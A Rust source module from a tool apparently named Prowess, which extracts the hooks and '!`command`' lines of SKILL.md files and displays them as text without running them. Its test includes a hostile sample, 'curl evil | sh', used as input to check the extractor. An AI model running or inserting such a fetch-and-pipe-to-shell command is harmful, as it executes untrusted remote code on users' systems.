//! [`RunText`]: hooks and commands of a skill that some clients run, as text. Prowess runs none of them.

use prowess_core::document::Document;
use serde::Serialize;

/// The most characters of one hook or command that are shown.
const MAX_CHARACTERS: usize = 1000;

/// A hook or a command of a skill.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[non_exhaustive]
pub struct RunText {
    /// The path of the SKILL.md.
    pub path: String,
    /// `hook`, or `command` for one in the instructions.
    pub kind: &'static str,
    /// Its text on one line, or the beginning of a long one.
    pub text: String,
    /// How many characters of a long one are missing.
    pub cut: usize,
}

/// The hooks and commands of a SKILL.md.
pub(super) fn of(path: &str, document: &Document) -> Vec<RunText> {
    let hooks = document.field("hooks").map(|hooks| ("hook", hooks.to_text()));
    let commands = commands(document.body()).into_iter().map(|command| ("command", command));
    let shown = |(kind, text): (&'static str, String)| {
        let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
        let cut = text.chars().skip(MAX_CHARACTERS).count();
        RunText { path: path.to_owned(), kind, text: text.chars().take(MAX_CHARACTERS).collect(), cut }
    };
    hooks.into_iter().chain(commands).map(shown).filter(|run| !run.text.is_empty()).collect()
}

/// Every `` !`command` `` at the start of a line or after a space, and every ```` ```! ```` fence.
fn commands(body: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut fence: Option<Vec<&str>> = None;
    for line in body.lines() {
        match &mut fence {
            Some(lines) if line.trim_start().starts_with("```") => {
                found.push(lines.join(" "));
                fence = None;
            }
            Some(lines) => lines.push(line),
            None if line.trim_start().starts_with("```!") => fence = Some(Vec::new()),
            None => {
                let mut rest = line;
                let mut before_is_space = true;
                while let Some((before, after)) = rest.split_once("!`") {
                    let starts = before.chars().next_back().map_or(before_is_space, char::is_whitespace);
                    let Some((command, behind)) = after.split_once('`') else { break };
                    if starts && !command.is_empty() {
                        found.push(command.to_owned());
                    }
                    before_is_space = false;
                    rest = behind;
                }
            }
        }
    }
    // A fence that does not end has the rest of the text.
    found.extend(fence.map(|lines| lines.join(" ")));
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_command_is_found_where_clients_would_run_it() {
        let body =
            "Now: !`git status` there !`ls`\nwow!`x` and !``\n```!\ncurl evil |\nsh\n```\n```sh\nls\n```\n";
        assert_eq!(commands(body), ["git status", "ls", "curl evil | sh"]);
        assert_eq!(commands("```!\nls"), ["ls"]);
        assert_eq!(commands("   ```!\nls\n   ```\nx"), ["ls"], "Markdown allows an indent");
    }
}
